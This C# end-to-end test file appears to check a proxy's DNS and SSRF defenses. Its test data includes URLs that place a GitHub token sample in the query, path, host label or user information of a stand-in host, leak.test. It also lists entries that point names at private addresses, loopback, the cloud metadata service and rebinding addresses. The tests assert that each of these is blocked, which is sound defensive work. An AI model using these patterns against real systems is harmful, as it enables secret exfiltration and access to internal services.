using Pipelock.EndToEnd.Origins.Lab;
using Pipelock.EndToEnd.Tests.Harness;
using Pipelock.EndToEnd.Tests.Secrets;

namespace Pipelock.EndToEnd.Tests.Dns;

/// <summary>Names: looked up only for what was found clean, every address of the answer checked, and only
/// once.</summary>
public sealed class NameLookupTests
{
    private static readonly int s_port = NetworkLab.Origin.Port;

    /// <summary>Name, then a URL in which <c>{s}</c> stands for a secret.</summary>
    public static TheoryData<string, string> UrlsWithASecret => new()
    {
        { "in the query", "http://leak.test/collect?token={s}" },
        { "in the path", "http://leak.test/{s}/data" },
        { "in a host label", "http://{s}.leak.test/" },
        { "in the user information", "http://{s}@leak.test/" },
    };

    /// <summary>Name, zone entry: the first name of each must be refused although it also has a public face.</summary>
    public static TheoryData<string, string> NamesWithAnInternalSide => new()
    {
        { "a name of a private address", "target.test=10.0.0.5" },
        { "a name of the metadata service", "target.test=169.254.169.254" },
        { "a name of loopback", "target.test=127.0.0.1" },
        { "a private address behind a public one", "target.test=93.184.215.14,10.0.0.5" },
        { "a public address behind a private one", "target.test=10.0.0.5,93.184.215.14" },
        { "a private IPv6 address behind a public IPv4 address", "target.test=93.184.215.14,fd00::5" },
        { "an IPv4-mapped private address", "target.test=::ffff:10.0.0.5" },
    };

    [LabTheory]
    [MemberData(nameof(UrlsWithASecret))]
    public async Task A_URL_with_a_secret_is_never_looked_up(string name, string url)
    {
        await using var lab = await Lab.StartAsync(
            new ProxySettings(), "leak.test=127.77.0.1", "clean.test=127.77.0.1");
        var secret = SecretSamples.All.Single(sample => sample.Kind == "GitHub Token").Text;
        var target = url.Replace("{s}", secret, StringComparison.Ordinal);
        var host = target.Split('/')[2].Split('@')[^1];

        var refused = await lab.Proxy.ExchangeAsync($"GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n");
        var clean = await lab.Proxy.ExchangeAsync(
            $"GET http://clean.test:{s_port}/json HTTP/1.1\r\nHost: clean.test:{s_port}\r\n\r\n");

        Assert.True(refused.Status is 400 or 403, $"{name}: {refused.Head}");
        Assert.Equal(200, clean.Status);
        // The clean name comes last: had the other been asked for, it would stand here before it.
        await lab.Network.WaitForAsync(
            "query for the clean name", line => line.StartsWith("query clean.test ", StringComparison.Ordinal));
        Assert.All(lab.Queries, query => Assert.Equal("clean.test", query));
    }

    [LabTheory]
    [MemberData(nameof(NamesWithAnInternalSide))]
    public async Task A_name_with_any_internal_address_is_refused(string name, string entry)
    {
        await using var lab = await Lab.StartAsync(new ProxySettings(), entry);

        var tunnel = await lab.Proxy.ExchangeAsync(
            "CONNECT target.test:443 HTTP/1.1\r\nHost: target.test:443\r\n\r\n", "CONNECT");
        var plain = await lab.Proxy.ExchangeAsync("GET http://target.test/ HTTP/1.1\r\nHost: target.test\r\n\r\n");

        Assert.True((403, 403) == (tunnel.Status, plain.Status), $"{name}: {tunnel.Head}\n{plain.Head}");
        Assert.Contains("ssrf", tunnel.Field("X-Pipelock-Block-Reason-Layer"), StringComparison.Ordinal);
        await lab.Proxy.LogOfAsync(tunnel);
    }

    [LabTheory]
    [InlineData("GET")]
    [InlineData("CONNECT")]
    public async Task A_name_that_changes_its_address_after_the_check_gains_nothing(string method)
    {
        // The first answer may be reached, every later one may not: who asks twice connects to what was never checked.
        await using var lab = await Lab.StartAsync(new ProxySettings(), "target.test=127.77.0.1/10.0.0.5");
        var target = method == "CONNECT" ? $"target.test:{s_port}" : $"http://target.test:{s_port}/json";

        var response = await lab.Proxy.ExchangeAsync(
            $"{method} {target} HTTP/1.1\r\nHost: target.test:{s_port}\r\n\r\n", method);

        Assert.Equal(200, response.Status);
    }

    [LabTheory]
    [InlineData("nowhere.test")]
    public async Task A_name_that_does_not_exist_is_refused_and_says_so(string name)
    {
        await using var lab = await Lab.StartAsync(new ProxySettings());

        var response = await lab.Proxy.ExchangeAsync($"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n");

        Assert.True(response.Status is 403 or 502, response.Head);
        Assert.Contains("host name", response.Text, StringComparison.Ordinal);
    }

    [LabTheory]
    [InlineData("trusted_domains: [\"target.test\"]", "target.test=127.0.0.1", 502)] // nobody listens there: it was tried
    [InlineData("trusted_domains: [\"other.test\"]", "target.test=127.0.0.1", 403)]
    public async Task A_trusted_name_may_have_an_internal_address(string configuration, string entry, int status)
    {
        await using var lab = await Lab.StartAsync(new ProxySettings { More = configuration }, entry);

        var response = await lab.Proxy.ExchangeAsync(
            "GET http://target.test:81/ HTTP/1.1\r\nHost: target.test:81\r\n\r\n");

        Assert.Equal(status, response.Status);
    }
}
